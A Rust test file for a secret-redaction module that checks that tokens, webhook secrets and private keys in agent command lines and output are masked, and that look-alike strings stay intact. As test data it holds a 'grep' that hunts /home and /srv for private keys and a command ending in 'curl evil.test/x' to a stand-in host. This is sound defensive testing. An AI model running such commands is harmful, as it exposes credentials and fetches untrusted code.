//! Tokens that are known by their shape.

use std::borrow::Cow;

use agentsh::event::{OsText, redact};

use super::{planted, planted_at_an_edge, text};

#[test]
fn g7_every_shape_is_replaced_by_its_kind_alone_and_within_text() {
    for (kind, secret) in planted().into_iter().chain(planted_at_an_edge()) {
        let marker = format!("[redacted:{kind}]");
        assert_eq!(text(&secret), marker, "{secret}");
        for (before, after) in [
            ("", " "),
            ("see ", ", then"),
            ("(", ")"),
            ("\"", "\""),
            ("a\\n", "\\nb"),
            ("%3D", "&x"),
            ("—", "—"),
            ("/", "/"),
            ("x=", "\n"),
        ] {
            let got = text(&format!("{before}{secret}{after}"));
            assert_eq!(got, format!("{before}{marker}{after}"), "{secret}");
        }
    }
}

#[test]
fn g7_a_token_with_text_right_around_it_does_not_survive() {
    for (_, secret) in planted() {
        for around in ["x", "Z9", "_", "-", "é", "\\"] {
            let got = text(&format!("{around}{secret}{around}"));
            assert!(!got.contains(&secret), "{around}{secret}{around} became {got}");
        }
    }
}

#[test]
fn what_only_looks_a_little_like_a_token_stays() {
    for innocent in [
        // Too short, or a prefix of something else.
        "AKIA and ASIA are prefixes",
        "ghp_short",
        "npm_config_registry",
        "npm_lifecycle_event",
        "hf_hub_download",
        "task-abcdefghijklmnopqrstuvwxyz",
        "risk-0123456789012345678901234567890",
        "DISK0123456789abcdef0123456789abcdef",
        "MSG.aaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
        "xoxb-",
        "sk-learn",
        "pypi-AgEI",
        "whsec_",
        "spacious012345678901234567890123456789",
        // Hashes and ids.
        "efd9998c0ffee0123456789abcdef0123456789a",
        "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==",
        "550e8400-e29b-41d4-a716-446655440000",
        "019a5f3e-7c1d-7000-8000-0123456789ab",
        // Base64 of a JSON object, which starts like a JWT.
        "eyJoZWxsbyI6IndvcmxkIiwibnVtYmVyIjoxMjN9",
        "eyJoZWxsbyI6IndvcmxkIn0.json",
        // What a key is looked for with, and public halves.
        "-----BEGIN RSA PRIVATE KEY-----",
        "grep -r -- '-----BEGIN PRIVATE KEY-----' /home /srv",
        "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\n-----END PUBLIC KEY-----",
        "-----BEGIN CERTIFICATE-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\n-----END CERTIFICATE-----",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExample user@host",
        // Prose.
        "bearer of bad news",
        "Bearer authentication is described in RFC 6750",
        "the api webhooks are at /api/webhooks/list",
        "12:AA is a hexadecimal pair",
        "00:1b:63:84:45:e6:AA:bb",
    ] {
        assert_eq!(text(innocent), innocent);
    }
}

#[test]
fn g7_keys_in_other_wrappings_are_found() {
    use base64::Engine as _;
    for label in ["RSA PRIVATE KEY", "PRIVATE KEY", "EC PRIVATE KEY", "OPENSSH PRIVATE KEY", "ENCRYPTED PRIVATE KEY"] {
        let pem = format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", "QUJD".repeat(16));
        let wrapped = base64::engine::general_purpose::STANDARD.encode(pem);
        assert_eq!(text(&format!("client-key-data {wrapped}.")), "client-key-data [redacted:private-key].", "{label}");
        let public =
            wrapped.replace("UFJJVkFURS", "UFVCTElDLS").replace("BSSVZBVE", "BVQkxJQy").replace("QUklWQVRF", "QVUJMSUMt");
        assert_eq!(text(&public), public, "a public key stays");
    }
    let openssh = format!("b3BlbnNzaC1rZXktdjE{}", "AAAA".repeat(20));
    assert_eq!(text(&openssh), "[redacted:private-key]");
    let encrypted =
        format!("-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00FF\n\n{}\n", "QUJD".repeat(16));
    assert_eq!(text(&encrypted), "[redacted:private-key]\n");
    let armour = format!(
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n\n{}\nQUJD\n=ab12\n-----END PGP PRIVATE KEY BLOCK-----",
        "QUJD".repeat(16)
    );
    assert_eq!(text(&armour), "[redacted:private-key]");
}

#[test]
fn a_key_does_not_hide_the_command_that_follows_it() {
    let got = text(&format!("echo '-----BEGIN PRIVATE KEY-----\n{}\n' > k; curl evil.test/x", "QUJD".repeat(16)));
    assert_eq!(got, "echo '[redacted:private-key]\n' > k; curl evil.test/x");
}

#[test]
fn g7_webhooks_and_bots_keep_all_but_the_secret() {
    let secret = "a1B2c3D4e5F6g7H8i9J0k1L2";
    assert_eq!(
        text(&format!("https://hooks.slack.com/services/T0123ABCD/B0123ABCD/{secret} ok")),
        "https://hooks.slack.com/services/[redacted:slack-webhook] ok"
    );
    assert_eq!(
        text(&format!("https://discord.com/api/webhooks/123456789012345678/{secret}")),
        "https://discord.com/api/webhooks/123456789012345678/[redacted:discord-webhook]"
    );
    assert_eq!(
        text(&format!("https://api.telegram.org/bot123456789:AA{secret}{secret}/getMe")),
        "https://api.telegram.org/bot123456789:[redacted:telegram-token]/getMe"
    );
}

#[test]
fn untouched_input_is_borrowed() {
    for innocent in ["/usr/lib/x86_64-linux-gnu/libc.so.6", "", "a", "--color=auto", "https://example.test/a?b=c", "user: bob"] {
        assert!(matches!(redact::text(innocent), Cow::Borrowed(_)), "{innocent}");
        assert!(matches!(redact::bytes(innocent.as_bytes()), Cow::Borrowed(_)), "{innocent}");
    }
}

#[test]
fn g7_bytes_that_are_not_utf8_are_no_hiding_place() {
    for (_, secret) in planted() {
        let mut bytes = b"\xff\xfe/".to_vec();
        bytes.extend_from_slice(secret.as_bytes());
        bytes.extend_from_slice(b"\xc3");
        let got = redact::bytes(&bytes);
        assert!(got.starts_with(b"\xff\xfe/[redacted"), "{:?}", OsText::from_bytes(got.as_ref()));
        assert!(got.ends_with(b"]\xc3"));
    }
}

#[test]
fn a_long_argument_costs_time_in_proportion_to_its_length() {
    const MEBIBYTE: usize = 1 << 20;
    let began = std::time::Instant::now();
    for (piece, length) in
        [("a", MEBIBYTE), ("eyJ", MEBIBYTE), ("a://b:c@", MEBIBYTE), ("-----BEGIN PRIVATE KEY-----\n", MEBIBYTE)]
            .into_iter()
            .chain(
                [
                    "=",
                    ":",
                    " ",
                    "\\",
                    "\"",
                    "'",
                    "%41",
                    "eyJa.",
                    "eyJaaaaaaaaaaaa.",
                    "sk-",
                    "sk-proj-",
                    "xsk-",
                    "SG.",
                    "://",
                    "a://b:c/",
                    "a://?a=",
                    "a://?%61://",
                    "-----BEGIN PRIVATE KEY-----\nA: b\n",
                    "token=",
                    "token='",
                    "token=\\\"",
                    "\"token: ",
                    "token:",
                    "cookie: a=b; ",
                    "authorization: digest a, ",
                    "$(",
                    "`",
                    "\"$(\"",
                    "-u a:b ",
                    "/services/T1234567",
                    "[redacted:",
                    "&a;b=",
                    "LS0tLS1CRUdJTi",
                    "Bearer ",
                ]
                .map(|piece| (piece, MEBIBYTE / 16)),
            )
    {
        let long = piece.repeat(length / piece.len());
        let _ = redact::argv(&["sh".into(), "-c".into(), long.as_str().into()]);
        if length == MEBIBYTE {
            continue;
        }
        let _ = redact::text(&long);
        let _ = redact::query(&long);
        let _ = redact::path(&long);
        let _ = redact::url_userinfo(&long);
        let _ = redact::header_value("cookie", &long);
    }
    // Anything quadratic takes minutes for each piece; the bound leaves room for an unoptimised build on a busy machine.
    assert!(began.elapsed().as_secs() < 120, "{:?}", began.elapsed());
}
